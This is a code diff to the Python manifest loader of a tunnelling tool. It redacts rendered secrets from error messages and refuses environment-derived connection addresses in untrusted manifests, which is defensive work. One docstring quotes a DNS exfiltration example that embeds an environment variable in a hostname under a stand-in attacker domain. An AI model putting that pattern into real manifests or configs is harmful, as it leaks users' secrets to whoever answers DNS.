@@ -12,12 +12,13 @@ from typing import Any
 from .. import files
 from ..engine.config import ENVIRONMENT_ENGINE, EngineConfig
 from ..errors import ManifestError, UserError
-from ..redaction import without_values
+from ..redaction import SENSITIVE, replaced
 from . import domain_checks as checks
 from . import dotenv, schema, templates
 from .positions import YamlProblem, parse
 from .schema import Path
 from .settings import Settings
+from .trust import trust
 
 # Far above any real manifest (500 tunnels take about 100 KiB); refusing early bounds time and memory.
 MAX_BYTES = 1024 * 1024
@@ -44,6 +45,15 @@ class Manifest:
         ENVIRONMENT_ENGINE)})
 
 
+@dataclass(frozen=True)
+class ProjectEngines:
+    """What `destroy` needs of a manifest."""
+
+    project: str
+    engines: dict[str, EngineConfig]
+    secrets: frozenset[str] = frozenset()  # what templates of the project or the engines read, and made of it
+
+
 class _Problems:
     """Collects `file:line:col: path: message` lines, so that one run reports every error (and warning)."""
 
@@ -51,15 +61,17 @@ class _Problems:
         self.path, self.positions, self.data = path, positions, data
         self.sources: dict[Path, tuple[str, ...]] = {}  # templated path → the variables it read
         self.read: dict[str, str] = {}  # variable → value, for every variable a template read
+        self.rendered: dict[Path, Any] = {}  # what each template that read a variable made
         self.errors: list[tuple[int, int, str]] = []
         self.warnings: list[tuple[int, int, str]] = []
 
     def add(self, where: Path, message: str, severity: str = checks.ERROR) -> None:
         """Note a problem; a value that came from the environment is replaced by the variable's name."""
         line, column = self._position(where)
-        read = {name: self.read[name] for path, names in self.sources.items()
-                if path[: len(where)] == where or where[: len(path)] == path for name in names}
-        message = without_values(message, read) if read else message
+        related = [path for path in self.sources if path[: len(where)] == where or where[: len(path)] == path]
+        labels = {self.read[name]: f"env.{name}" for path in related for name in self.sources[path]}
+        labels.update({str(self.rendered[path]): SENSITIVE for path in related if path in self.rendered})
+        message = replaced(message, labels) if labels else message
         text = f"{schema.format_path(where)}{self._tunnel(where)}: {message}"
         if severity == checks.WARNING:
             self.warnings.append((line, column, "warning: " + text))
@@ -138,15 +150,13 @@ def load(path: FilePath, environ: Mapping[str, str] | None = None, *, env_files:
                                    f"({MAX_TUNNELS}); split them across projects")
         problems.raise_if_any()
 
-    rendering = templates.render_all(data, environment(path, env_files, environ), ignore_missing_env,
+    process = os.environ if environ is None else environ
+    rendering = templates.render_all(data, environment(path, env_files, process), ignore_missing_env,
                                      secrets_optional=need_secrets is False,
-                                     secrets_reason=need_secrets if isinstance(need_secrets, str) else "")
-    problems.sources, problems.read = rendering.sources, rendering.read
-    for where, message in rendering.problems:
-        problems.add(where, message)
-    secrets = frozenset(rendering.secrets)
-    # An error never shows a value a template read from the environment, whatever the field.
-    error_secrets = secrets | frozenset(rendering.read.values())
+                                     secrets_reason=need_secrets if isinstance(need_secrets, str) else "",
+                                     trust=trust(process))
+    _note_rendering(problems, rendering, process)
+    secrets = frozenset(rendering.secrets)  # what templates read, and made of it: never shown
 
     # A value still holding a template that could not be rendered is not checked, nor what contains it.
     unresolved_and_above = {other[:length] for other in rendering.unresolved for length in range(len(other) + 1)}
@@ -155,13 +165,14 @@ def load(path: FilePath, environ: Mapping[str, str] | None = None, *, env_files:
         return where not in unresolved_and_above and not any(where[:length] in rendering.unresolved
                                                              for length in range(len(where)))
 
-    for where, message in schema.validation_problems(data, rendering.sources):
+    for where, message in schema.validation_problems(data, rendering.sources,
+                                                     from_file_alone=not rendering.read and not rendering.unresolved):
         if resolved(where):
             problems.add(where, message)
-    problems.raise_if_any(error_secrets)
+    problems.raise_if_any(secrets)
 
     _check_unique(data, problems)
-    problems.raise_if_any(error_secrets)
+    problems.raise_if_any(secrets)
 
     project = data.get("project") or project_from_folder(path)
     defaults = {**schema.field_defaults(), **data.get("defaults", {})}
@@ -171,7 +182,7 @@ def load(path: FilePath, environ: Mapping[str, str] | None = None, *, env_files:
                                                   engines):
         if resolved(where):
             problems.add(where, message, checks.ERROR if strict else severity)
-    problems.raise_if_any(error_secrets)
+    problems.raise_if_any(secrets)
     return Manifest(path=path, project=project, tunnels=tunnels, secrets=secrets,
                     warnings=tuple(problems.lines(problems.warnings)), engines=engines,
                     unset_secrets=frozenset(rendering.unset_secrets))
@@ -195,22 +206,50 @@ def _absolute(base: FilePath, name: str) -> str:
 
 
 def load_scope(path: FilePath, environ: Mapping[str, str] | None = None, *,
-               env_files: Iterable[FilePath] = ()) -> tuple[str, dict[str, EngineConfig]]:
+               env_files: Iterable[FilePath] = ()) -> ProjectEngines:
     """Only the project name and the engines: `destroy` must work where the tunnels cannot be read at all."""
     data, problems = _parse(path, read_text(path))
     if not isinstance(data, dict):
         data = {}
     subset = {key: data[key] for key in ("project", "engines") if data.get(key) is not None}
-    rendering = templates.render_all(subset, environment(path, env_files, environ))
-    problems.sources, problems.read = rendering.sources, rendering.read
-    error_secrets = frozenset(rendering.secrets | set(rendering.read.values()))
-    for where, message in rendering.problems:
-        problems.add(where, message)
-    problems.raise_if_any(error_secrets)
+    process = os.environ if environ is None else environ
+    rendering = templates.render_all(subset, environment(path, env_files, process), trust=trust(process))
+    _note_rendering(problems, rendering, process)
+    secrets = frozenset(rendering.secrets)
+    problems.raise_if_any(secrets)
     for where, message in schema.validation_problems({"version": 1, "tunnels": [], **subset}, rendering.sources):
         problems.add(where, message)
-    problems.raise_if_any(error_secrets)
-    return subset.get("project") or project_from_folder(path), _engines(subset.get("engines"), path.parent)
+    problems.raise_if_any(secrets)
+    return ProjectEngines(subset.get("project") or project_from_folder(path),
+                          _engines(subset.get("engines"), path.parent), secrets)
+
+
+# Where tunnelctl connects to, or resolves: the engines, a tunnel's local target (status, doctor) and its server.
+_ADDRESSES = (("engines", None, "docker"), ("engines", None, "context"), ("engines", None, "tls"),
+              ("tunnels", None, "host"), ("tunnels", None, "server"), ("defaults", "host"), ("defaults", "server"))
+
+
+def _is_address(where: Path) -> bool:
+    return any(len(where) >= len(pattern) and all(part is None or part == where[index]
+                                                  for index, part in enumerate(pattern))
+               for pattern in _ADDRESSES)
+
+
+def _note_rendering(problems: _Problems, rendering: templates.Rendering, process: Mapping[str, str]) -> None:
+    """Take the rendering's problems, and refuse an address taken from the environment in an untrusted manifest: the
+    name a connection resolves reaches whoever answers DNS (`tcp://{{ env.S }}.evil.example:2376`)."""
+    problems.sources, problems.read, problems.rendered = rendering.sources, rendering.read, rendering.rendered
+    for where, message in rendering.problems:
+        problems.add(where, message)
+    decided = trust(process)
+    if decided.trusted:
+        return
+    for where, names in rendering.sources.items():
+        if _is_address(where):
+            rendering.unresolved.add(where)
+            problems.add(where, f"reads {', '.join(f'env.{name}' for name in names)}: an address tunnelctl connects "
+                                f"to may not come from the environment when the manifest is not trusted "
+                                f"({decided.decided_by}); write it in the manifest")
 
 
 def _parse(path: FilePath, text: str) -> tuple[Any, _Problems]:
